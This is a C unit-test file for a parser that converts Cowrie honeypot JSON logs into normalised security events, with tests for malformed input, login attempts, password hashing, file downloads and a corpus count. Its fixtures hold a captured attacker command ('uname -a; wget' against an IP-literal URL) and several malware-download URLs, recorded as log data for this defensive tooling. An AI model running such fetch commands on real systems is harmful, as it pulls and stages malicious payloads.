/* SPDX-License-Identifier: Apache-2.0 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "core/arena.h"
#include "ingest/parser.h"
#include "parsetest.h"
#include "testutil.h"

static ts_arena_t *arena;

/* Parses a copy of exactly n bytes so ASan catches reads past the line. */
static int parse_n(const char *line, size_t n, ts_event_t *e, ts_parse_error_t *err)
{
    return tt_parse_n(ts_cowrie_parse, arena, line, n, e, err);
}

static int parse(const char *line, ts_event_t *e, ts_parse_error_t *err)
{
    return parse_n(line, strlen(line), e, err);
}

static void expect_err(const char *line, int code, const char *detail_part)
{
    tt_expect_err(ts_cowrie_parse, arena, line, code, detail_part);
}

static void ip_is(const ts_ip_t *ip, const char *want)
{
    char buf[TS_IP_STRLEN];
    if (ip->family == TS_AF_NONE)
        fail_msg("no address, want %s", want);
    ts_ip_format(ip, buf, sizeof buf);
    assert_string_equal(buf, want);
}

#define HEAD(id) "{\"eventid\": \"" id "\", \"timestamp\": \"2018-06-12T00:03:40.956305Z\", "
#define TAIL "\"session\": \"556bbc45a7ef\", \"sensor\": \"920497a79896\"}"

/* ---- invalid input first -------------------------------------------------------- */

static void test_garbage(void **state)
{
    (void)state;
    expect_err("", TS_ESYNTAX, "not a JSON object");
    expect_err("cowrie.login.failed", TS_ESYNTAX, "not a JSON object");
    expect_err("[1,2]", TS_ESYNTAX, "not a JSON object");
    expect_err("{\"eventid\": \"cowrie.login.failed\", \"src_ip\": \"1.2.", TS_ESYNTAX, "JSON");
    expect_err("{\"eventid\": \"cowrie.login.failed\"} trailing", TS_ESYNTAX, "JSON");
    expect_err("{\"eventid\": \"cowrie.login.failed\", \"username\": \"caf\xe9\"}", TS_EUTF8,
               "JSON");
    /* Truncated at every byte: never an event, never a crash. */
    const char *good = HEAD("cowrie.login.failed") "\"src_ip\": \"192.0.2.1\", \"username\": "
                                                   "\"root\", \"password\": \"x\", " TAIL;
    size_t n = strlen(good);
    for (size_t i = 0; i < n; i++) {
        ts_event_t e;
        ts_parse_error_t err;
        int rc = parse_n(good, i, &e, &err);
        if (rc >= 0)
            fail_msg("prefix of %zu bytes gave %d", i, rc);
        assert_non_null(memchr(err.detail, '\0', sizeof err.detail));
    }
}

static void test_missing_and_mistyped(void **state)
{
    (void)state;
    expect_err("{\"src_ip\": \"192.0.2.1\"}", TS_EMISSING, "eventid: missing");
    expect_err("{\"eventid\": 7}", TS_ETYPE, "eventid: expected a string");
    expect_err(HEAD("cowrie.login.failed") "\"username\": \"root\", " TAIL, TS_EMISSING,
               "src_ip: missing");
    expect_err("{\"eventid\": \"cowrie.login.failed\", \"src_ip\": \"192.0.2.1\", "
               "\"username\": \"root\"}",
               TS_EMISSING, "timestamp: missing");
    expect_err("{\"eventid\": \"cowrie.login.failed\", \"timestamp\": \"yesterday\", \"src_ip\": "
               "\"192.0.2.1\", \"username\": \"root\"}",
               TS_EINVAL, "timestamp: not a valid time");
    expect_err(HEAD("cowrie.login.failed") "\"src_ip\": 3232235777, \"username\": \"r\", " TAIL,
               TS_ETYPE, "src_ip: expected a string");
    expect_err(HEAD("cowrie.login.failed") "\"src_ip\": \"1.2.3.999\", \"username\": \"r\", " TAIL,
               TS_EADDR, "src_ip: not an IP address");
    expect_err(HEAD("cowrie.login.failed") "\"src_ip\": \"010.1.1.1\", \"username\": \"r\", " TAIL,
               TS_EADDR, "src_ip");
    expect_err(HEAD("cowrie.login.failed") "\"src_ip\": \"192.0.2.1\", \"dst_ip\": \"x\", "
                                           "\"username\": \"r\", " TAIL,
               TS_EADDR, "dst_ip");
    expect_err(HEAD("cowrie.login.failed") "\"src_ip\": \"192.0.2.1\", \"dst_port\": 70000, "
                                           "\"username\": \"r\", " TAIL,
               TS_ERANGE, "dst_port");
    expect_err(HEAD("cowrie.login.failed") "\"src_ip\": \"192.0.2.1\", " TAIL, TS_EMISSING,
               "username: missing");
    expect_err(HEAD("cowrie.login.failed") "\"src_ip\": \"192.0.2.1\", \"username\": 0, " TAIL,
               TS_ETYPE, "username: expected a string");
    expect_err(HEAD("cowrie.login.failed") "\"src_ip\": \"192.0.2.1\", \"username\": \"r\", "
                                           "\"password\": [], " TAIL,
               TS_ETYPE, "password: expected a string");
    expect_err(HEAD("cowrie.login.failed") "\"src_ip\": \"192.0.2.1\", \"username\": \"r\", "
                                           "\"password\": \"a\\u0000b\", " TAIL,
               TS_EINVAL, "password: contains U+0000");
    expect_err(HEAD("cowrie.command.input") "\"src_ip\": \"192.0.2.1\", " TAIL, TS_EMISSING,
               "input: missing");
    expect_err(HEAD("cowrie.session.file_download") "\"src_ip\": \"192.0.2.1\", " TAIL, TS_EMISSING,
               "url: missing");
    expect_err(HEAD("cowrie.session.file_download") "\"src_ip\": \"192.0.2.1\", \"url\": 5, " TAIL,
               TS_ETYPE, "url: expected a string");
}

static void test_absurd_lengths(void **state)
{
    (void)state;
    /* A password and a command over TS_EVENT_STR_MAX: refused, not cut. */
    size_t big = TS_EVENT_STR_MAX + 10;
    const char *pre = HEAD("cowrie.login.failed") "\"src_ip\": \"192.0.2.1\", \"username\": \"r\", "
                                                  "\"password\": \"";
    const char *post = "\", " TAIL;
    size_t n = strlen(pre) + big + strlen(post);
    char *line = malloc(n + 1);
    memcpy(line, pre, strlen(pre));
    memset(line + strlen(pre), 'A', big);
    memcpy(line + strlen(pre) + big, post, strlen(post) + 1);
    expect_err(line, TS_ETOOBIG, "password: longer than");
    free(line);

    pre = HEAD("cowrie.command.input") "\"src_ip\": \"192.0.2.1\", \"input\": \"";
    n = strlen(pre) + big + strlen(post);
    line = malloc(n + 1);
    memcpy(line, pre, strlen(pre));
    memset(line + strlen(pre), 'B', big);
    memcpy(line + strlen(pre) + big, post, strlen(post) + 1);
    expect_err(line, TS_ETOOBIG, "input");
    free(line);

    /* Nesting beyond the scanner's bound in an ignored field. */
    char deep[400];
    char *p = deep;
    p += sprintf(p, "{\"eventid\": \"cowrie.client.kex\", \"x\": ");
    for (int i = 0; i < 100; i++)
        *p++ = '[';
    for (int i = 0; i < 100; i++)
        *p++ = ']';
    strcpy(p, "}");
    expect_err(deep, TS_ESYNTAX, "JSON");
}

/* ---- events --------------------------------------------------------------------- */

static void test_login_failed(void **state)
{
    (void)state;
    ts_event_t e;
    ts_parse_error_t err;
    /* Old Cowrie layout: ", " separators, keys in any order. */
    const char *line =
        "{\"eventid\": \"cowrie.login.failed\", \"username\": \"admin\", \"timestamp\": "
        "\"2018-06-12T00:03:40.956305Z\", \"message\": \"login attempt [admin/hunter2] failed\", "
        "\"system\": \"SSHService 'ssh-userauth' on HoneyPotSSHTransport,11769,146.0.77.159\", "
        "\"isError\": 0, \"src_ip\": \"146.0.77.159\", \"session\": \"556bbc45a7ef\", "
        "\"password\": \"hunter2\", \"sensor\": \"920497a79896\"}";
    assert_int_equal(parse(line, &e, &err), TS_PARSE_EVENT);
    ip_is(&e.src.ip, "146.0.77.159");
    assert_int_equal(e.dst.ip.family, TS_AF_NONE); /* no dst_ip on login lines */
    assert_int_equal(e.src.port, -1);
    assert_string_equal(ts_type_name(e.type), "brute-force");
    assert_string_equal(ts_taxonomy_name(ts_type_taxonomy(e.type)), "intrusion-attempts");
    assert_true(ts_str_eq_c(e.identifier, "cowrie-login-failed"));
    assert_true(ts_str_eq_c(e.feed_name, "cowrie"));
    assert_true(ts_str_eq_c(e.transport, "tcp"));
    assert_true(ts_str_eq_c(e.application, "ssh"));
    char t[48];
    ts_time_format(e.time_source, t, sizeof t);
    assert_string_equal(t, "2018-06-12T00:03:40.956305+00:00");
    assert_string_equal(tt_extra(&e, "cowrie.username"), "\"admin\"");
    assert_string_equal(tt_extra(&e, "cowrie.session"), "\"556bbc45a7ef\"");
    assert_string_equal(tt_extra(&e, "cowrie.sensor"), "\"920497a79896\"");
    /* printf hunter2 | sha256sum */
    assert_string_equal(tt_extra(&e, "cowrie.password_sha256"),
                        "\"f52fbd32b2b3b86ff88ef6c490628285f482af15ddcb29541f94bcf526a3f6c7\"");
    /* The cleartext is nowhere in the event. */
    for (uint32_t i = 0; i < e.n_extra; i++)
        assert_null(strstr(e.extra[i].value_json.ptr, "hunter2"));
    assert_true(ts_str_is_null(e.description) ||
                memmem(e.description.ptr, e.description.len, "hunter2", 7) == NULL);

    /* Compact separators, escaped password: the hash is of the unescaped bytes. */
    assert_int_equal(
        parse("{\"eventid\":\"cowrie.login.failed\",\"timestamp\":\"2018-06-12T00:03:40Z\","
              "\"src_ip\":\"::ffff:192.0.2.9\",\"username\":\"\",\"password\":\"a\\u0062c\"}",
              &e, &err),
        TS_PARSE_EVENT);
    ip_is(&e.src.ip, "192.0.2.9"); /* unmapped */
    assert_string_equal(tt_extra(&e, "cowrie.username"), "\"\"");
    /* FIPS 180-2 test vector "abc". */
    assert_string_equal(tt_extra(&e, "cowrie.password_sha256"),
                        "\"ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad\"");
    assert_null(tt_extra(&e, "cowrie.session"));

    /* Two-block message: the 448-bit FIPS vector. */
    assert_int_equal(
        parse(HEAD("cowrie.login.failed") "\"src_ip\": \"2001:db8::7\", \"username\": \"u\", "
                                          "\"password\": "
                                          "\"abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopn"
                                          "opq\", \"dst_ip\": \"198.51.100.2\", \"dst_port\": "
                                          "2222, " TAIL,
              &e, &err),
        TS_PARSE_EVENT);
    ip_is(&e.src.ip, "2001:db8::7");
    ip_is(&e.dst.ip, "198.51.100.2");
    assert_int_equal(e.dst.port, 2222);
    assert_string_equal(tt_extra(&e, "cowrie.password_sha256"),
                        "\"248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1\"");

    /* No password at all (public key login): no hash. */
    assert_int_equal(parse(HEAD("cowrie.login.failed") "\"src_ip\": \"192.0.2.1\", \"username\": "
                                                       "\"r\", " TAIL,
                           &e, &err),
                     TS_PARSE_EVENT);
    assert_null(tt_extra(&e, "cowrie.password_sha256"));
}

static void test_login_success_and_command(void **state)
{
    (void)state;
    ts_event_t e;
    ts_parse_error_t err;
    assert_int_equal(
        parse(HEAD("cowrie.login.success") "\"src_ip\": \"61.8.73.166\", \"username\": \"root\", "
                                           "\"password\": \"x\", \"system\": "
                                           "\"CowrieTelnetTransport,3,61.8.73.166\", " TAIL,
              &e, &err),
        TS_PARSE_EVENT);
    assert_string_equal(ts_type_name(e.type), "brute-force");
    assert_true(ts_str_eq_c(e.identifier, "cowrie-login-success"));
    assert_true(ts_str_eq_c(e.application, "telnet"));
    ip_is(&e.src.ip, "61.8.73.166");

    assert_int_equal(parse(HEAD("cowrie.command.input") "\"src_ip\": \"61.8.73.166\", \"input\": "
                                                        "\"uname -a; wget "
                                                        "http://54.37.72.170/n3\", " TAIL,
                           &e, &err),
                     TS_PARSE_EVENT);
    assert_true(ts_str_eq_c(e.identifier, "cowrie-command-input"));
    assert_string_equal(ts_type_name(e.type), "brute-force");
    assert_string_equal(tt_extra(&e, "cowrie.input"), "\"uname -a; wget http://54.37.72.170/n3\"");
    ip_is(&e.src.ip, "61.8.73.166");
    assert_true(ts_str_is_null(e.application)); /* no "system" */
}

static void download(const char *url_json, ts_event_t *e)
{
    char line[1024];
    snprintf(line, sizeof line,
             HEAD("cowrie.session.file_download") "\"src_ip\": \"61.8.73.166\", \"url\": %s, "
                                                  "\"shasum\": \"3be5\", \"outfile\": \"dl/3be5\", "
                                                  "\"dst_ip\": \"172.17.0.3\", " TAIL,
             url_json);
    ts_parse_error_t err;
    int rc = parse(line, e, &err);
    if (rc != TS_PARSE_EVENT)
        fail_msg("rc %d detail %s for %s", rc, err.detail, url_json);
}

static void test_file_download(void **state)
{
    (void)state;
    ts_event_t e;
    download("\"http://54.37.72.170/n3\"", &e);
    assert_string_equal(ts_type_name(e.type), "malware-distribution");
    assert_string_equal(ts_taxonomy_name(ts_type_taxonomy(e.type)), "malicious-code");
    assert_true(ts_str_eq_c(e.identifier, "cowrie-file-download"));
    assert_true(ts_str_eq_c(e.src.url, "http://54.37.72.170/n3"));
    ip_is(&e.src.ip, "54.37.72.170");
    assert_true(ts_str_is_null(e.src.fqdn));
    /* The attacker is kept aside, not made a victim. */
    assert_int_equal(e.dst.ip.family, TS_AF_NONE);
    assert_string_equal(tt_extra(&e, "cowrie.src_ip"), "\"61.8.73.166\"");
    assert_string_equal(tt_extra(&e, "cowrie.shasum"), "\"3be5\"");
    assert_string_equal(tt_extra(&e, "cowrie.outfile"), "\"dl/3be5\"");

    download("\"http://user:pw@Evil.Example.COM:8080/x?y=http://1.2.3.4/\"", &e);
    assert_int_equal(e.src.ip.family, TS_AF_NONE);
    assert_true(ts_str_eq_c(e.src.fqdn, "evil.example.com"));

    download("\"ftp://[2001:db8::5]:21/bin\"", &e);
    ip_is(&e.src.ip, "2001:db8::5");

    download("\"tftp://203.0.113.4/a.sh\"", &e);
    ip_is(&e.src.ip, "203.0.113.4");

    /* No authority, or a host that is neither: the URL alone. */
    download("\"n3\"", &e);
    assert_int_equal(e.src.ip.family, TS_AF_NONE);
    assert_true(ts_str_is_null(e.src.fqdn));
    assert_true(ts_str_eq_c(e.src.url, "n3"));
    download("\"http://999.1.1.1/x\"", &e);
    assert_int_equal(e.src.ip.family, TS_AF_NONE);
    assert_true(ts_str_is_null(e.src.fqdn));
    download("\"http://[zz]/x\"", &e);
    assert_int_equal(e.src.ip.family, TS_AF_NONE);
    download("\"http://\\u00e9vil.example/\"", &e);
    assert_int_equal(e.src.ip.family, TS_AF_NONE);
    assert_true(ts_str_is_null(e.src.fqdn));
}

static void test_file_upload(void **state)
{
    (void)state;
    ts_event_t e;
    ts_parse_error_t err;
    assert_int_equal(
        parse(HEAD("cowrie.session.file_upload") "\"src_ip\": \"198.51.100.77\", \"filename\": "
                                                 "\"x.sh\", \"shasum\": \"ab\", \"outfile\": "
                                                 "\"dl/ab\", " TAIL,
              &e, &err),
        TS_PARSE_EVENT);
    assert_string_equal(ts_type_name(e.type), "malware-distribution");
    assert_true(ts_str_eq_c(e.identifier, "cowrie-file-upload"));
    ip_is(&e.src.ip, "198.51.100.77");
    assert_string_equal(tt_extra(&e, "cowrie.filename"), "\"x.sh\"");
}

static void test_skipped(void **state)
{
    (void)state;
    ts_event_t e;
    ts_parse_error_t err;
    static const char *const skips[] = {
        /* One element in two literals: parenthesised for clang's -Wstring-concatenation. */
        ("{\"eventid\": \"cowrie.session.connect\", \"src_ip\": \"221.194.47.243\", \"src_port\": "
         "47569, \"dst_ip\": \"172.17.0.3\", \"dst_port\": 2222}"),
        "{\"eventid\": \"cowrie.client.version\", \"macCS\": [\"hmac-sha1\"], \"src_ip\": \"x\"}",
        "{\"eventid\": \"cowrie.direct-tcpip.request\", \"dst_ip\": \"216.58.211.14\"}",
        "{\"eventid\": \"cowrie.session.closed\", \"duration\": 1.1086649894714355}",
        "{\"eventid\": \"cowrie.log.open\"}",
        "{\"eventid\": \"cowrie.command.failed\", \"input\": \"foo\"}",
        "{\"eventid\": \"cowrie.session.file_download.failed\"}",
        "{\"eventid\": \"cowrie.something.new\"}",
        "{\"eventid\": \"\"}",
    };
    for (size_t i = 0; i < sizeof skips / sizeof skips[0]; i++) {
        int rc = parse(skips[i], &e, &err);
        if (rc != TS_PARSE_SKIP)
            fail_msg("rc %d (%s) for %s", rc, err.detail, skips[i]);
    }
}

static void test_registry(void **state)
{
    (void)state;
    const ts_parser_t *p = ts_parser_find("cowrie");
    assert_non_null(p);
    assert_ptr_equal(p->parse, ts_cowrie_parse);
    bool listed = false;
    for (const ts_parser_t *const *l = ts_parser_list(); *l; l++)
        listed |= *l == p;
    assert_true(listed);
}

/* ---- the real log ----------------------------------------------------------------- */

static void test_corpus(void **state)
{
    (void)state;
    char *path = tt_corpus_path("sensors/cowrie.json.2018-06-12");
    if (path == NULL) {
        skip();
        return;
    }
    size_t len;
    char *data = tt_read_file(path, &len);
    assert_non_null(data);
    /* Independent counts: plain substring search on the raw lines. */
    static const struct {
        const char *needle;
        const char *identifier;
        size_t want, got;
    } init[] = {
        {"\"eventid\": \"cowrie.login.failed\"", "cowrie-login-failed", 0, 0},
        {"\"eventid\": \"cowrie.login.success\"", "cowrie-login-success", 0, 0},
        {"\"eventid\": \"cowrie.command.input\"", "cowrie-command-input", 0, 0},
        {"\"eventid\": \"cowrie.session.file_download\"", "cowrie-file-download", 0, 0},
        {"\"eventid\": \"cowrie.session.file_upload\"", "cowrie-file-upload", 0, 0},
    };
    enum { NK = sizeof init / sizeof init[0] };
    struct {
        const char *needle, *identifier;
        size_t want, got;
    } k[NK];
    memcpy(k, init, sizeof k);
    size_t lines = 0, events = 0, skips = 0, dl_with_ip = 0;
    char *p = data, *end = data + len;
    while (p < end) {
        char *nl = memchr(p, '\n', (size_t)(end - p));
        size_t n = nl ? (size_t)(nl - p) : (size_t)(end - p);
        if (n > 0) {
            lines++;
            for (int i = 0; i < NK; i++)
                if (memmem(p, n, k[i].needle, strlen(k[i].needle)) &&
                    /* file_download.failed is another id */
                    !memmem(p, n, "file_download.failed", 20))
                    k[i].want++;
            ts_event_t e;
            ts_parse_error_t err;
            int rc = parse_n(p, n, &e, &err);
            if (rc < 0)
                fail_msg("line %zu refused (%d: %s)", lines, rc, err.detail);
            if (rc == TS_PARSE_SKIP) {
                skips++;
            } else {
                events++;
                for (int i = 0; i < NK; i++)
                    if (ts_str_eq_c(e.identifier, k[i].identifier))
                        k[i].got++;
                if (ts_str_eq_c(e.identifier, "cowrie-file-download") &&
                    e.src.ip.family != TS_AF_NONE)
                    dl_with_ip++;
                if (ts_str_eq_c(e.identifier, "cowrie-login-failed"))
                    assert_non_null(tt_extra(&e, "cowrie.username"));
            }
            ts_arena_reset(arena);
        }
        p += n + 1;
    }
    size_t sum = 0;
    for (int i = 0; i < NK; i++) {
        fprintf(stderr, "cowrie corpus: %-22s %zu lines, %zu events\n", k[i].identifier, k[i].want,
                k[i].got);
        assert_int_equal(k[i].got, k[i].want);
        sum += k[i].want;
    }
    fprintf(stderr, "cowrie corpus: %zu lines, %zu events, %zu skipped, 0 refused\n", lines, events,
            skips);
    assert_int_equal(events, sum);
    assert_int_equal(events + skips, lines);
    /* The corpus is not trivially empty of the kinds we care about. */
    assert_true(k[0].want > 100);
    assert_true(k[3].want > 0);
    assert_int_equal(dl_with_ip, k[3].want); /* its URLs all name an IP literal */
    free(data);
    free(path);
}

static int setup(void **state)
{
    (void)state;
    arena = ts_arena_new(64 * 1024);
    return 0;
}

static int teardown(void **state)
{
    (void)state;
    ts_arena_free(arena);
    return 0;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_garbage),
        cmocka_unit_test(test_missing_and_mistyped),
        cmocka_unit_test(test_absurd_lengths),
        cmocka_unit_test(test_login_failed),
        cmocka_unit_test(test_login_success_and_command),
        cmocka_unit_test(test_file_download),
        cmocka_unit_test(test_file_upload),
        cmocka_unit_test(test_skipped),
        cmocka_unit_test(test_registry),
        cmocka_unit_test(test_corpus),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
